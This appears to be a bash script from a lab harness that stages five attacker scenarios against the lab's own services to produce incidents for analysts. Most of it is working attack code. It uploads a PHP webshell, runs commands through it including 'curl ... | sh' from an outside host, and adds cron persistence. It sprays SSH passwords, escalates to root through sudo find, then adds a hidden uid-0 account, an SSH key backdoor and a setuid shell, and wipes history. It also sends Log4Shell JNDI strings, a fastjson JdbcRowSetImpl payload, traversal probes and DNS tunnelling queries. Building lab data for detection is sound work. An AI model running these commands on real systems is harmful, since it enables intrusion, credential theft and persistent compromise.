# What the attackers do, sourced by record.sh: real tools against the lab's own services, bounded in count and time.
# Each function is one story; an analyst should find them as incidents of their own.

readonly BROWSER='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36'

att_curl() { # FROM CURL_ARGUMENTS...
    local from=$1
    shift
    in_ns att curl -s -m 8 -o /dev/null --path-as-is --interface "$from" "$@" || true
}

# 1. 203.0.113.66 takes web01 through the site: scan, directory search, injection, guessed login, webshell, persistence.
story_web() {
    local from=203.0.113.66 shell=$SITE/uploads/avatar.php
    in_ns att timeout 60 nmap -n -Pn -sS -S "$from" -e eth0 --top-ports 300 -T4 10.20.1.10 >/dev/null || true
    in_ns att timeout 60 nmap -n -Pn -sV -p 22,80 --script http-title,http-server-header 10.20.1.10 >/dev/null || true
    words >"$LAB/words"
    in_ns att timeout 60 gobuster dir -q -t 4 -u "$SITE/" -w "$LAB/words" -x php >/dev/null 2>&1 || true
    (cd "$LAB" && in_ns att timeout 90 sqlmap -u "$SITE/news.php?id=1" --batch --dbms sqlite --technique BU --level 1 \
        --dump -T users --output-dir "$LAB/sqlmap" >/dev/null 2>&1) || true
    passwords >"$LAB/passwords"
    in_ns att timeout 90 hydra -q -t 4 -l admin -P "$LAB/passwords" 10.20.1.10 http-post-form \
        '/login.php:user=^USER^&pass=^PASS^:F=wrong' >/dev/null 2>&1 || true
    att_curl "$from" -A "$BROWSER" -d 'user=admin&pass=admin888' "$SITE/login.php"
    printf '<?php system($_GET["cmd"]);' >"$LAB/avatar.php"
    att_curl "$from" -A "$BROWSER" -F "avatar=@$LAB/avatar.php;type=image/png" "$SITE/profile.php"
    local command
    for command in id whoami 'uname -a' 'cat /etc/passwd' 'ls -la /srv/site' 'cat /srv/site/common.php' \
        'find / -name id_rsa -type f' 'curl -s http://203.0.113.66:8000/i.sh | sh'; do
        sleep 3
        att_curl "$from" -A "$BROWSER" -G --data-urlencode "cmd=$command" "$shell"
    done
    sleep 2
    att_curl "$from" -A "$BROWSER" -G --data-urlencode 'cmd=(crontab -l; echo "*/10 * * * * curl -s http://203.0.113.66:8000/i.sh | sh") | crontab -' "$shell"
}

# 2. 203.0.113.80 sprays and guesses SSH passwords of app02, gets in as ops, becomes root through sudo and stays.
story_ssh() {
    local from=203.0.113.80
    printf '%s\n' root admin test oracle postgres git ftp backup nagios tomcat www ops >"$LAB/users"
    printf '%s\n' 123456 admin123 P@ssw0rd 1qaz2wsx ops123456 >"$LAB/ssh-passwords"
    # hydra cannot choose its source address, so this story has a route of its own for the time being.
    ip -n wl-att route add 10.20.1.20/32 via 203.0.113.1 src "$from"
    in_ns att timeout 180 hydra -q -u -t 4 -L "$LAB/users" -P "$LAB/ssh-passwords" ssh://10.20.1.20 >/dev/null 2>&1 || true
    ip -n wl-att route del 10.20.1.20/32 via 203.0.113.1 src "$from"
    sleep 5
    ssh_as att "$from" ops123456 ops 10.20.1.20 'id; sudo -l; cat /etc/passwd; last' || true
    ssh_as att "$from" ops123456 ops 10.20.1.20 'echo ops123456 | sudo -S -p "" /usr/bin/cat /etc/shadow' || true
    sleep 3
    ssh_as att "$from" ops123456 ops 10.20.1.20 'sudo /usr/bin/find /etc -maxdepth 0 -exec /bin/sh \;' <<'COMMANDS' || true
cat /etc/shadow
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysbak
mkdir -p /root/.ssh
sh -c 'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILabLabLabLabLabLabLabLabLabLabLabLabLabLab x" >> /root/.ssh/authorized_keys'
sh -c 'echo "*/5 * * * * root /var/tmp/.x" > /etc/cron.d/sysupdate'
cp /bin/dash /var/tmp/.x
chmod 4755 /var/tmp/.x
rm -f /home/ops/.bash_history
COMMANDS
}

# 3. An IPv6 address probes web01 for well-known flaws; nothing of it exists there.
story_probes() {
    local from=2001:db8:bad::66 site='http://[fd00:20:1::10]' path
    in_ns att timeout 40 nmap -6 -n -Pn -sS --top-ports 100 -T4 fd00:20:1::10 >/dev/null || true
    att_curl "$from" -A '${jndi:ldap://203.0.113.66:1389/a}' "$site/"
    att_curl "$from" -A "$BROWSER" "$site/?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%3A1389%2Fa%7D"
    att_curl "$from" -A "$BROWSER" -H 'X-Api-Version: ${${lower:j}ndi:${lower:l}dap://203.0.113.66:1389/a}' "$site/"
    for path in /seeyon/htmlofficeservlet /weaver/bsh.servlet.BshServlet /servlet/~ic/bsh.servlet.BshServlet \
        /ispirit/im/upload.php /sys/ui/extend/varkind/custom.jsp '/nacos/v1/auth/users?pageNo=1&pageSize=9' \
        /actuator/env /druid/index.html /wls-wsat/CoordinatorPortType /jeecg-boot/jmreport/queryFieldBySql \
        '/common/download/resource?resource=/profile/../../../../etc/passwd' '/.git/config' '/.env' \
        '/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=-1' \
        '/index.action?redirect:%24%7B%23a%3d1%7D' '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd' \
        '/proxy?url=http://100.100.100.200/latest/meta-data/'; do
        att_curl "$from" -A "$BROWSER" "$site$path"
        sleep 1
    done
    att_curl "$from" -A "$BROWSER" -H 'Content-Type: application/json' \
        -d '{"b":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://203.0.113.66:1389/a","autoCommit":true}}' "$site/api/order"
    att_curl "$from" -A "$BROWSER" -b "rememberMe=$(head -c 1600 /dev/zero | tr '\0' 'A' | base64 -w0)" "$site/login"
    att_curl "$from" -A "$BROWSER" -X PUT -d 'x' "$site/t.jsp/"
    (cd "$LAB" && in_ns att timeout 60 wapiti -u 'http://[fd00:20:1::10]/' -m exec,file --scope page --flush-session \
        --max-scan-time 1 -o "$LAB/wapiti.json" -f json >/dev/null 2>&1) || true
}

# 4. A staff computer, 10.20.9.31, carries a program that tunnels over DNS and looks for a mining pool.
story_tunnel() {
    local i name
    for i in $(seq 1 90); do
        name=$(head -c 30 /dev/urandom | base32 -w0 | tr -d '=' | tr 'A-Z' 'a-z')
        in_ns usr dig +time=1 +tries=1 -b 10.20.9.31 @10.20.1.53 "$name.t.example.net" TXT >/dev/null || true
        sleep 0.5
    done
    in_ns usr dig +time=1 +tries=1 -b 10.20.9.31 @10.20.1.53 auto.c3pool.org A >/dev/null || true
}

# 5. 198.51.100.23 guesses the password of one account of web01 slowly, below the usual limits.
story_slow() { # DEADLINE
    local tries=0
    while [ "$(date +%s)" -lt "$1" ] && [ "$tries" -lt 26 ]; do
        ssh_as att 198.51.100.23 "Deploy@$tries" deploy 10.20.1.10 true || true
        tries=$((tries + 1))
        sleep 12
    done
}

words() {
    printf '%s\n' admin login backup test old dev api upload uploads manager console phpmyadmin config conf data db sql tmp temp \
        log logs bak web site shop blog wp-admin xmlrpc install setup server-status info phpinfo shell cmd user users account \
        member cgi-bin solr jenkins zabbix nagios grafana kibana actuator swagger druid nacos seeyon yyoa weaver eoffice ispirit \
        invoker jmx-console hudson struts axis2 webdav index news search profile portal oa mail ftp vpn sso cas auth static
}

passwords() {
    printf '%s\n' 123456 admin password admin123 12345678 111111 000000 abc123 qwerty 1q2w3e4r admin@123 admin1234 P@ssw0rd \
        passw0rd root toor test guest 123123 888888 666666 admin666 administrator welcome 1qaz2wsx zaq12wsx admin2024 admin2025 \
        admin2026 letmein sysadmin manager operator support default changeme secret qwe123 asd123 zxc123 admin111 admin000 \
        admin999 admin777 admin888
}
